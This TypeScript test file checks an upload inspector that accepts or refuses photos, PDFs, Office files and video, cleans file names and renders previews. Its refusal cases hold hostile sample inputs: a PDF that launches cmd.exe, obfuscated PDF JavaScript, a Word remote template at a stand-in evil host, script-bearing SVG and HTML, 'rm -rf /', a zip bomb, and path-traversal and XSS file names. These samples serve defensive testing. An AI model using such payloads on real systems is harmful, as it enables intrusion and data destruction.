import sharp from 'sharp'
import { describe, expect, test } from 'vitest'

import { displayName } from './display-name.ts'
import { PHOTO_TYPES, inspectUpload } from './inspect.ts'
import { publicPhoto, renderPreview } from './preview.ts'
import { docxOf, isoMedia, onePagePdf, packedPdf, pdfOf, xlsxOf } from './samples.ts'

const bytes = (text: string) => new TextEncoder().encode(text)
const photo = (width = 40, height = 20) => sharp({ create: { width, height, channels: 3, background: '#a33' } })
/** Lying on its side, with a camera and a place. */
const sidewaysPhoto = () =>
  photo()
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExif({ IFD0: { Make: 'MayAnhRieng' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '19/1 44/1 0/1' } })
    .toBuffer()

async function codeOf(content: Uint8Array, name: string, limits = {}): Promise<string> {
  const result = await inspectUpload(content, name, limits)
  return result.ok ? 'ok' : result.refusal.code
}

describe('what is taken', () => {
  test.each([
    ['anh.jpg', () => photo().jpeg().toBuffer(), { mediaType: 'image/jpeg', displayName: 'anh.jpg', width: 40, height: 20 }],
    ['anh.png', () => photo().png().toBuffer(), { mediaType: 'image/png' }],
    ['anh.webp', () => photo().webp().toBuffer(), { mediaType: 'image/webp' }],
    ['Phiếu đăng ký.pdf', () => onePagePdf(), { mediaType: 'application/pdf', displayName: 'Phiếu đăng ký.pdf', pages: 1 }],
    ['phương án.docx', () => docxOf(), { displayName: 'phương án.docx' }],
    ['bang.xlsx', () => xlsxOf(), { displayName: 'bang.xlsx' }],
    ['phim.mp4', () => isoMedia('isom'), { mediaType: 'video/mp4' }],
    ['lien-ket.pdf', () => onePagePdf('', ['<< /S /URI /URI (https://ocop.gov.vn) >>']), { pages: 1 }],
  ])('%s', async (name, make, expected) => {
    expect(await inspectUpload(await make(), name)).toMatchObject({ ok: true, ...expected })
  })

  test('a picture with a wrong ending is taken for what it is and named after it', async () => {
    expect(await inspectUpload(await photo().png().toBuffer(), 'giay.pdf')).toMatchObject({
      mediaType: 'image/png',
      displayName: 'giay.png',
    })
  })

  test('a photo taken on its side is measured upright', async () => {
    expect(await inspectUpload(await sidewaysPhoto(), 'a.jpg')).toMatchObject({ ok: true, width: 20, height: 40 })
  })
})

describe('what is refused', () => {
  const launch = '<< /Type /Action /S /Launch /F (cmd.exe) >>'
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
  const relation = (type: string) => ({
    'word/_rels/settings.xml.rels': bytes(
      `<Relationships><Relationship Id="r1" Type="http://x/relationships/${type}" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
    ),
  })
  test.each([
    ['an empty file', () => new Uint8Array(), 'a.pdf', 'upload.empty'],
    ['a program named as a PDF', () => bytes(`MZ${'\u0000'.repeat(200)}`), 'phieu.pdf', 'upload.typeNotAllowed'],
    ['plain text', () => bytes('giấy chứng nhận'), 'a.txt', 'upload.typeNotAllowed'],
    ['a GIF', () => photo().gif().toBuffer(), 'a.gif', 'upload.typeNotAllowed'],
    ['a web page named as a photo', () => bytes('\ufeff  <!doctype html><script>alert(1)</script>'), 'a.jpg', 'upload.markup'],
    [
      'a drawing with a script',
      () => bytes('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
      'a.svg',
      'upload.markup',
    ],
    ['a drawing after a comment', () => bytes('<!-- x --><svg onload="x()"/>'), 'a.png', 'upload.markup'],
    ['a shell script', () => bytes('#!/bin/sh\nrm -rf /'), 'a.pdf', 'upload.markup'],
    ['a HEIC photo', () => isoMedia('heic'), 'IMG_0001.HEIC', 'upload.heic'],
    ['a QuickTime film', () => isoMedia('qt  '), 'a.mov', 'upload.typeNotAllowed'],
    ['half a photo', async () => (await photo(400, 400).jpeg().toBuffer()).subarray(0, 700), 'a.jpg', 'upload.damagedImage'],
    ['a PDF that runs a script when opened', () => onePagePdf(`/OpenAction ${script}`), 'a.pdf', 'upload.pdfActive'],
    [
      'a PDF whose script is written with #xx',
      () => onePagePdf(`/OpenAction << /S /J#61va#53cript /JS (x) >>`),
      'a.pdf',
      'upload.pdfActive',
    ],
    ['a PDF whose script is in an object stream', () => packedPdf(script), 'a.pdf', 'upload.pdfActive'],
    ['a PDF that starts a program', () => onePagePdf('/OpenAction 5 0 R', [launch]), 'a.pdf', 'upload.pdfActive'],
    ['a PDF that starts a program from an object stream', () => packedPdf(launch), 'a.pdf', 'upload.pdfActive'],
    ['a PDF with files inside', () => onePagePdf('/Names << /EmbeddedFiles << /Names [] >> >>'), 'a.pdf', 'upload.pdfEmbedded'],
    [
      'a locked PDF',
      () => onePagePdf('', ['<< /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>'], '/Encrypt 5 0 R'),
      'a.pdf',
      'upload.pdfEncrypted',
    ],
    ['half a PDF', () => bytes('%PDF-1.7\n1 0 obj\n<< /Type'), 'a.pdf', 'upload.damagedPdf'],
    [
      'a PDF without pages',
      () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
      'a.pdf',
      'upload.damagedPdf',
    ],
    ['a Word file with a macro', () => docxOf({ 'word/vbaProject.bin': bytes('x') }), 'a.docx', 'upload.officeActive'],
    ['a Word file with a remote template', () => docxOf(relation('attachedTemplate')), 'a.docx', 'upload.officeActive'],
    ['a Word file cut short', () => docxOf().subarray(0, 300), 'a.docx', 'upload.damagedOffice'],
    [
      'a Word file that unpacks to 64 MB of nothing',
      () => docxOf({ 'word/media/x': new Uint8Array(64 * 1024 * 1024) }),
      'a.docx',
      'upload.zipBomb',
    ],
  ])('%s', async (_, make, name, code) => {
    expect(await codeOf(await make(), name)).toBe(code)
  })

  test('a Word file that lies about its unpacked size', async () => {
    const file = Buffer.from(docxOf({ 'word/media/x': new Uint8Array(64 * 1024 * 1024) }))
    for (let at = 0; at < file.length - 30; at += 1) {
      const signature = file.readUInt32LE(at)
      if (signature === 0x02014b50) file.writeUInt32LE(10, at + 24)
      if (signature === 0x04034b50) file.writeUInt32LE(10, at + 22)
    }
    expect(await codeOf(file, 'a.docx')).toBe('upload.zipBomb')
  })

  test('an ordinary link in a Word file is not a danger', async () => {
    expect(await codeOf(docxOf(relation('hyperlink')), 'a.docx')).toBe('ok')
  })

  test('more than the limit in bytes, pixels or pages, or a kind not asked for', async () => {
    const jpeg = await photo().jpeg().toBuffer()
    expect(await codeOf(jpeg, 'a.jpg', { maxBytes: 100, maxFilmBytes: 100 })).toBe('upload.tooLarge')
    expect(await codeOf(jpeg, 'a.jpg', { maxBytes: 100 })).toBe('upload.tooLarge')
    expect(await codeOf(jpeg, 'a.jpg', { maxPixels: 799 })).toBe('upload.tooManyPixels')
    expect(await codeOf(onePagePdf(), 'a.pdf', { maxPdfPages: 0 })).toBe('upload.pdfTooManyPages')
    expect(await codeOf(onePagePdf(), 'a.pdf', { allowed: PHOTO_TYPES })).toBe('upload.typeNotAllowed')
  })

  test('a PNG that says it has ten thousand million pixels, without decoding it', async () => {
    const png = await photo().png().toBuffer()
    png.writeUInt32BE(100_000, 16)
    png.writeUInt32BE(100_000, 20)
    expect(['upload.tooManyPixels', 'upload.damagedImage']).toContain(await codeOf(png, 'a.png'))
  })

  test('a PDF that takes too long to read, and the next one is read all the same', async () => {
    // Enough objects that no warm thread reads them before the time is up.
    const heavy = onePagePdf(
      '',
      Array.from({ length: 20_000 }, () => '<< /Type /XObject /Names [(a) (b) (c)] >>'),
    )
    expect(await codeOf(heavy, 'a.pdf', { pdfTimeoutMs: 0 })).toBe('upload.pdfTooSlow')
    expect(await codeOf(onePagePdf(), 'a.pdf')).toBe('ok')
  })

  test('the refusal names the file, the rule and what to do, in both languages', async () => {
    const result = await inspectUpload(bytes('x'.repeat(2048)), '../../Giấy.pdf', { maxBytes: 1024, maxFilmBytes: 1024 })
    expect(result).toMatchObject({ ok: false, refusal: { code: 'upload.tooLarge' } })
    const { vi, en } = result.ok ? { vi: '', en: '' } : result.refusal.message
    expect(vi).toContain('“Giấy.pdf” nặng 2\u00a0KB, vượt mức 1\u00a0KB')
    expect(en).toContain('“Giấy.pdf” is 2\u00a0KB')
    expect(`${vi}${en}`).not.toMatch(/[{}]/)
  })
})

test.each([
  ['../../etc/passwd', 'passwd.pdf'],
  ['C:\\Users\\a\\phieu.exe', 'phieu.pdf'],
  ['a\u0000b\u202egpj.pdf', 'abgpj.pdf'],
  ['CON.pdf', '_CON.pdf'],
  ['nul', '_nul.pdf'],
  ['giấy. . .', 'giấy.pdf'],
  ['Giấy chứng nhận'.normalize('NFD'), 'Giấy chứng nhận.pdf'],
  ['<img src=x onerror=1>.pdf', '-img src=x onerror=1-.pdf'],
  ['', 'tep.pdf'],
  ['....', 'tep.pdf'],
  [`${'đ'.repeat(300)}.pdf`, `${'đ'.repeat(125)}.pdf`],
])('the name %j is kept as %j', (sent, kept) => {
  expect(displayName(sent, 'pdf')).toBe(kept)
})

describe('what is shown', () => {
  test('a preview of a photo is upright, small, and carries neither place nor camera', async () => {
    const original = await sidewaysPhoto()
    expect((await sharp(original).metadata()).exif?.includes('MayAnhRieng')).toBe(true)
    const shown = await renderPreview(original, 'image/jpeg', { width: 64 })
    const open = await publicPhoto(original)
    for (const content of [shown.ok ? shown.webp : new Uint8Array(), open.bytes]) {
      const metadata = await sharp(content).metadata()
      expect(metadata).toMatchObject({ format: 'webp', width: 20, height: 40 })
      expect(metadata.exif).toBeUndefined()
    }
  })

  test('a page of a PDF is drawn', async () => {
    const shown = await renderPreview(onePagePdf(), 'application/pdf', { page: 1, width: 300 })
    expect(shown).toMatchObject({ ok: true, pages: 1 })
    const { data, info } = await sharp(shown.ok ? shown.webp : new Uint8Array())
      .greyscale()
      .raw()
      .toBuffer({ resolveWithObject: true })
    expect([info.width, info.height]).toEqual([300, 200])
    const pixel = (x: number, y: number) => data[(y * info.width + x) * info.channels] ?? -1
    expect(pixel(100, 100)).toBeLessThan(40)
    expect(pixel(250, 20)).toBeGreaterThan(200)
  })

  test('a page as long as a street is drawn within bounds', async () => {
    const street = onePagePdf('', [], '', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 14400] /Contents 4 0 R >>')
    const shown = await renderPreview(street, 'application/pdf', { width: 2400 })
    const { width = 0, height = 0 } = await sharp(shown.ok ? shown.webp : new Uint8Array()).metadata()
    expect(width * height).toBeLessThanOrEqual(8_100_000)
    expect(width).toBeGreaterThan(0)
  })

  test('what cannot be shown says why', async () => {
    expect(await renderPreview(onePagePdf(), 'application/pdf', { page: 2 })).toEqual({ ok: false, reason: 'noSuchPage' })
    expect(await renderPreview(docxOf(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document')).toEqual({
      ok: false,
      reason: 'noPreview',
    })
    expect(await renderPreview(bytes('không phải ảnh'), 'image/png')).toEqual({ ok: false, reason: 'damaged' })
  })
})
